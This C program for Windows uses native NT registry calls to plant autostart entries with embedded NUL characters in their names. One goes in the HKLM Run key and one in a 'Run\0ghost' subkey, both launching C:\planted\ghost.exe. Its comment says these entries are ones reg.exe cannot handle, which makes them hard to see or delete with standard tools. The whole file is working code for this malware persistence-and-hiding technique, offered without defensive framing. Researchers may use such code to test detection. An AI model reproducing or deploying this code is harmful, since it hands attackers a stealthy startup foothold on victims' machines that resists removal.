/* Plants what reg.exe cannot: a key and a value with a NUL in their names. The kernel
   counts the units of a name, and so do we (ntdll, NtCreateKey and NtSetValueKey:
   https://learn.microsoft.com/windows-hardware/drivers/ddi/wdm/nf-wdm-zwcreatekey). */
#include <windows.h>
#include <winternl.h>

NTSTATUS NTAPI NtCreateKey(PHANDLE, ACCESS_MASK, POBJECT_ATTRIBUTES, ULONG, PUNICODE_STRING, ULONG, PULONG);
NTSTATUS NTAPI NtSetValueKey(HANDLE, PUNICODE_STRING, ULONG, ULONG, PVOID, ULONG);

static NTSTATUS key(HANDLE above, WCHAR *name, USHORT size, HANDLE *made)
{
	UNICODE_STRING s = { size, size, name };
	OBJECT_ATTRIBUTES a;
	InitializeObjectAttributes(&a, &s, OBJ_CASE_INSENSITIVE, above, NULL);
	return NtCreateKey(made, KEY_ALL_ACCESS, &a, 0, NULL, 0, NULL);
}

int main(void)
{
	WCHAR run[] = L"\\Registry\\Machine\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
	WCHAR above[] = L"\\Registry\\Machine\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion";
	WCHAR ghost[] = L"Run\0ghost", value[] = L"v\0hidden", text[] = L"C:\\planted\\ghost.exe";
	UNICODE_STRING name = { sizeof(value) - 2, sizeof(value) - 2, value };
	HANDLE h, below;

	if (key(NULL, run, sizeof(run) - 2, &h) || NtSetValueKey(h, &name, 0, REG_SZ, text, sizeof(text)))
		return 1;
	if (key(NULL, above, sizeof(above) - 2, &h) || key(h, ghost, sizeof(ghost) - 2, &below))
		return 2;
	return NtSetValueKey(below, &name, 0, REG_SZ, text, sizeof(text)) ? 3 : 0;
}
